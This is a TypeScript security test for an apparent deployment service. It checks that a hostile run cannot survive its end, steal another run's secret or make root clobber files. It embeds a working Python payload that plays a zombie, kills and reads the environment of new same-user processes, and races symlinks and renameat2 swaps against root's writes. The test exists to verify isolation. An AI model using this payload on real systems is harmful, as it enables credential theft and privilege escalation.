/**
 * A run that tries to outlive its end: its first thread ends, so that it is shown as a zombie, while others kill
 * every new process of their user after reading its environment, and put links in the places of folders and
 * files that root is about to remove or write.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { chmod, mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { TestContext } from 'node:test';
import { running } from './attack.ts';
import { withoutTerraform } from './programs.ts';
import { createEnvironment, deployAndEnd, deployNew, homeOf, until, untilStatus } from './runs.ts';
import { makeRepository, removeScratch, scratchFolder, startService } from './service.ts';

const word = 'planted-4f5e6d7c8b9a';
const python = '/usr/bin/python3';
// Of this process alone: its uid is used for all runs.
const uidBase = 56_000 + (process.pid % 1000);

/** Why it cannot be tried here, or false. */
export const withoutSurvivor =
  process.getuid?.() !== 0
    ? 'runs get users of their own only when the service is started as root'
    : withoutTerraform || ((await stat(python).catch(() => null)) === null && `needs ${python}`);

/** Standard Python; the libraries of C do what it cannot. */
const survivor = `
import ctypes, os, signal, sys, threading, time
libc = ctypes.CDLL(None)
data, own, other, target, loot, word = sys.argv[1:7]
word = word.encode()
def pids(): return {name for name in os.listdir('/proc') if name.isdigit()}
before = pids()
def forever(act):
    while True:
        try: act()
        except OSError: pass
def hunt():
    for name in pids() - before - {str(os.getpid())}:
        try:
            if os.stat('/proc/' + name).st_uid == os.getuid():
                note(open('/proc/' + name + '/environ', 'rb').read())
                os.kill(int(name), signal.SIGKILL)
        except OSError: pass
def note(content):
    with open(loot, 'a') as file: file.write('STOLEN\\n' if word in content else 'read\\n')
def exchange():
    libc.syscall(316 if os.uname().machine == 'x86_64' else 276, -100, b'deep', -100, b'link', 2)
def link():
    for folder in (own, other):
        for name in ('plan/tfplan', 'tree/tfplan', 'home/tfplan'):
            try: os.symlink(os.path.join(target, 'file'), os.path.join(data, 'work', folder, name))
            except OSError: pass
def start():
    for act in [hunt] * 8 + [exchange, link]: threading.Thread(target=forever, args=[act]).start()
os.chdir(os.path.join(data, 'work', own, 'tree'))
os.makedirs('deep/inner', exist_ok=True)
os.symlink(target, 'link')
if os.fork() == 0:
    os.setsid()
    for descriptor in range(3): os.dup2(os.open('/dev/null', os.O_RDWR), descriptor)
    start()
    with open(loot, 'a') as file: file.write('hunting\\n')
    libc.pthread_exit(None)
else: time.sleep(0.5)
`;

/** @returns pids of runs, including those that are shown as zombies */
function processesOfRuns(): string[] {
  return readdirSync('/proc').filter((name) => {
    if (!/^\d+$/.test(name)) return false;
    try {
      const uid = Number(/^Uid:\s+(\d+)/m.exec(readFileSync(`/proc/${name}/status`, 'utf8'))?.[1]);
      return uid === uidBase;
    } catch {
      return false;
    }
  });
}

/**
 * Runs it in one environment of a service of root, then deploys another one with a secret.
 * @param tries how often
 */
export async function outlive(t: TestContext, isolation: 'auto' | 'off', tries: number): Promise<void> {
  const folder = await scratchFolder();
  const service = await startService({
    folder,
    settings: {
      ENVARIUM_LOG_LEVEL: 'warn',
      ENVARIUM_ISOLATION: isolation,
      ENVARIUM_AGENT_CONCURRENCY: '1',
      ENVARIUM_SLOT_UID_BASE: String(uidBase),
      ENVARIUM_SLOT_UID_COUNT: '1',
    },
  });
  t.after(async () => {
    await service[Symbol.asyncDispose]();
    await removeScratch(folder);
  });
  const { client } = service;
  const home = await homeOf(client);
  const make = async (name: string, files: Readonly<Record<string, string>>) =>
    (await makeRepository(folder, name, files)).path;
  const target = join(folder, 'target');
  const loot = join(folder, 'loot');
  await mkdir(join(target, 'inner'), { recursive: true, mode: 0o700 });
  await writeFile(join(target, 'inner', 'kept'), '');
  await writeFile(join(target, 'file'), word, { mode: 0o600 });
  await writeFile(loot, '');
  await chmod(loot, 0o666);
  const victim = await deployNew(client, home, {
    repository: await make('victim', running('sleep 1\n')),
    configurationChanges: [{ name: 'SECRET', value: word, type: 0, isSensitive: true }],
  });

  const hostile = await make('attacker', {
    ...running(
      `${python} "$(dirname "$0")/survivor.py" "$DATA" "$ENVARIUM_ENVIRONMENT_ID" "$OTHER" "$TARGET" "$LOOT" ${word}\n`,
    ),
    'survivor.py': survivor,
  });
  for (let count = 0; count < tries; count++) {
    const attacker = await createEnvironment(client, home, {
      name: `attacker-${count}`,
      repository: hostile,
      configurationChanges: Object.entries({
        DATA: join(folder, 'data'),
        OTHER: victim.id,
        TARGET: target,
        LOOT: loot,
      }).map(([name, value]) => ({ name, value, type: 0 as const })),
    });
    await untilStatus(client, attacker.deploymentId);
    await deployAndEnd(client, victim.id, {
      configurationChanges: [{ name: 'round', value: `${count}`, type: 1 }],
    });
    await until('the end of all processes', () => processesOfRuns().length === 0);
    const found = await readFile(loot, 'utf8');
    assert.doesNotMatch(found, /STOLEN/);
    // In a sandbox it cannot write there.
    if (isolation === 'off') assert.match(found, /hunting/);
    assert.ok(await stat(join(target, 'inner', 'kept')));
    assert.equal(await readFile(join(target, 'file'), 'utf8'), word);
    const { uid, mode } = await stat(join(target, 'file'));
    assert.deepEqual([uid, mode & 0o777], [0, 0o600]);
  }
}
